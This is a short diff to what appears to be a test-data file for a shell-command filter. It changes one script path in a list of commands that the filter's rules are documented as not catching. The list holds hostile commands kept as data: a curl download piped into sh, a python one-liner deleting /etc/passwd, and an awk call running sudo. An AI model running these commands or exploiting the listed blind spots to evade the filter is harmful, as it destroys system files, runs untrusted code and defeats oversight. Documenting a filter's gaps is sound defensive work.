@@ -92,7 +92,7 @@ export const ORDINARY_COMMANDS: readonly string[] = [
 
 /** They pass although they do what a rule is against: what the rules do not see, and why. */
 export const OUT_OF_SCOPE_COMMANDS: readonly (readonly [why: string, command: string])[] = [
-  ['scripts in files are not read', 'bash scripts/anything.sh'],
+  ['scripts in files are not read', 'bash ./anything.sh'],
   ['scripts in files are not read', 'curl -o a.sh https://x.test; sh a.sh'],
   ['other languages are not read', 'python3 -c "import os; os.remove(\'/etc/passwd\')"'],
   ['other languages are not read', 'awk \'BEGIN { system("sudo ls") }\''],
